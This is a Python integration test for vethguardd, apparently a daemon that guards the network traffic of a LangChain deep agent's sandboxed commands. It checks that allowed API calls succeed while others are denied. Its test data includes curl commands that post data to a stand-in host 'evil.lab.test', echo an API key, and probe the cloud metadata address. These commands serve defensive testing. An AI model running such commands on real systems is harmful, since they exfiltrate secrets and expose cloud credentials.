# SPDX-License-Identifier: Apache-2.0
"""LangChain's pattern "sandbox as tool": a deep agent outside, whose commands run in a namespace that vethguardd guards."""
import json
import os
import shutil
import subprocess
import time
import unittest

import guests
import support
from daemon import Daemon
from support import HTTP, SECRET, SLOW, file_credential, policy

HERE = os.path.dirname(os.path.abspath(__file__))
PACKAGES = os.path.join(support.ROOT, "build", "providers", "deep", "node_modules")
RULES = ("{to: 'https://api.lab.test', methods: [GET], credential: api}",)


@unittest.skipUnless(shutil.which("node") and os.path.isdir(PACKAGES), "needs node and the packages that make check-providers installs")
class SandboxAsTool(unittest.TestCase):
    def setUp(self):
        self.daemon = Daemon()
        self.addCleanup(self.daemon.end)
        self.box = support.netns(self, f"deep{time.monotonic_ns()}")
        self.policy = support.LAB.write(f"deep-{time.monotonic_ns()}.yaml", policy(*RULES, credentials=file_credential()))
        # deepagents finds itself by the place of the file that imports it.
        self.folder = support.LAB.path(f"deep-{time.monotonic_ns()}")
        os.makedirs(self.folder)
        shutil.copy(os.path.join(HERE, "deep", "agent.mjs"), self.folder)
        shutil.copytree(os.path.join(support.ROOT, "contrib", "node"), os.path.join(self.folder, "vethguard"))
        os.symlink(PACKAGES, os.path.join(self.folder, "node_modules"))
        self.workdir = os.path.join(self.folder, "work")
        os.mkdir(self.workdir)
        os.chmod(self.workdir, 0o777)

    def where(self, bundle):
        return {"netns": f"/run/netns/{self.box}", "bundle": bundle, "user": "nobody"}

    def environment(self):
        return {"PATH": os.environ["PATH"], "HOME": self.folder}

    def run_agent(self, *commands):
        root = os.path.join(self.daemon.data, "ca", "root.pem")
        bundle = support.LAB.path(f"deep-{time.monotonic_ns()}.pem")
        shutil.copy(root, bundle)
        os.chmod(bundle, 0o644)
        where = self.where(bundle)
        r = subprocess.run(["node", "agent.mjs", self.daemon.socket, self.policy, json.dumps(where), self.workdir, json.dumps(commands)],
                           cwd=self.folder, capture_output=True, text=True, timeout=120 * SLOW, env=self.environment())
        self.assertEqual(r.returncode, 0, r)
        return json.loads(r.stdout.strip().splitlines()[-1])

    def test_agent(self):
        answer = self.run_agent("curl -sS https://api.lab.test/whoami -H \"Authorization: Bearer $API_KEY\"", "id -u; echo \"$API_KEY\"",
                                "curl -sS -d stolen https://evil.lab.test/", "curl -sS -X DELETE https://api.lab.test/x",
                                "curl -sS -m 3 http://169.254.169.254/latest/")
        allowed, identity, evil, method, metadata = answer["outputs"]
        self.assertEqual((answer["last"], answer["id"]), ("done", "deep"))
        self.assertIn('"authenticated": true', allowed, answer)
        self.assertIn("65534", identity)
        self.assertNotIn(SECRET, json.dumps(answer))
        for refused in (evil, method, metadata):
            self.assertIn("urn:vethguard:problem:denied", refused)
        self.assertEqual(answer["up"], [None, "invalid_path", "permission_denied", "is_directory"])
        self.assertEqual(answer["down"], [None, "file_not_found", "is_directory", "invalid_path", "permission_denied"])
        self.assertTrue(answer["same"])
        self.assertIsNone(answer["written"])
        self.assertIn("two", answer["read"])
        self.assertEqual((answer["failed"]["exitCode"], sorted(answer["failed"]["output"].split())), (3, ["err", "out"]))
        self.assertEqual(answer["long"][:2], [1024 * 1024, True])
        self.assertNotEqual(answer["after"], 0)  # the guard has ended, and with it the network
        self.assertTrue(self.daemon.event(HTTP, action_id=1, **{"http_request.url.path": "/whoami"}))
        self.assertIn("evil.lab.test", json.dumps(self.daemon.events()))

    def test_refused(self):
        """Wrong uses fail before anything is guarded."""
        code = """
import { VethguardSandbox } from "./vethguard/deepagents.js";
import { Vethguard } from "./vethguard/index.js";
const client = new Vethguard({ socket: process.argv[1] });
const netns = process.argv[3], policy = process.argv[2], user = "nobody";
const failures = [];
for (const options of [{}, { container: "a", netns, user }, { netns }, { netns, user: "root" }, { netns, user: "0" }, { netns: "/run/netns/none", user },
  { netns, user, policy: "relative" }, { container: "none", engine: "/bin/false" }, { container: "none", engine: "/nonexistent" }])
  try { await VethguardSandbox.create({ client, policy, ...options }); failures.push(null); } catch (error) { failures.push(error.name); }
console.log(JSON.stringify([failures, (await client.call("GET", "/v1/sandboxes")).sandboxes.length]));
"""
        r = subprocess.run(["node", "--input-type=module", "-e", code, self.daemon.socket, self.policy, f"/run/netns/{self.box}"], cwd=self.folder,
                           capture_output=True, text=True, timeout=60 * SLOW)
        self.assertEqual(r.returncode, 0, r)
        self.assertEqual(json.loads(r.stdout), [["TypeError"] * 5 + ["VethguardError"] * 4, 0])


class InContainer(SandboxAsTool):
    """The same with a container of Podman's."""
    test_refused = None

    def setUp(self):
        if not shutil.which("podman"):
            self.skipTest("podman is not installed")
        super().setUp()
        self.engine = guests.Engine("podman")
        self.addCleanup(self.engine.stop)
        self.engine.run("agent", "--network", "none")
        self.workdir = "/agent"
        r = self.engine.exec("agent", None, "/bin/sh", "-c", "mkdir /agent && chmod 777 /agent")
        self.assertEqual(r.returncode, 0, r)

    def where(self, bundle):
        return {"container": "agent", "engine": "podman", "user": "65534"}

    def environment(self):
        return {**self.engine.env, "PATH": os.environ["PATH"], "HOME": self.folder}
